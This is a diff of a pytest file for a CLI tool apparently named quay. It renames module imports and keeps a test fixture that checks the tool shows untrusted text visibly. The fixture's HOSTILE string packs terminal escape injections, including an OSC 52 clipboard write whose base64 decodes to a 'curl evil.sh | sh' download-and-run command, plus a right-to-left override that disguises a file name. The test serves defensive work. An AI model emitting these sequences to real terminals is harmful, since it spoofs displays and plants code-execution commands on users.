@@ -13,11 +13,11 @@ from pathlib import Path
 import pytest
 from typer.testing import CliRunner
 
-from quaylocal.cli import app as cli
-from quaylocal.client import QuayClient
-from quaylocal.terminal import visible
+from quay.main import app as cli
+from quaycli.client import QuayClient
+from quaycli.terminal import visible
 
-QUAY = [sys.executable, "-m", "quaylocal.cli"]
+QUAY = [sys.executable, "-m", "quay"]
 HOSTILE = (
     "title\x1b]0;pwned\x07 clear\x1b[2J clip\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07 "
     "csi\x9b31m fake\nline rtl\u202eexe.txt"
@@ -101,7 +101,7 @@ def test_quay_room_ledger_and_approvals_print_untrusted_text_visibly(monkeypatch
 
 @pytest.mark.unit
 def test_the_demo_rendering_shows_untrusted_text_visibly() -> None:
-    from quaylocal.render import action_line, request_line
+    from quaycli.render import action_line, request_line
 
     line = request_line(
         {
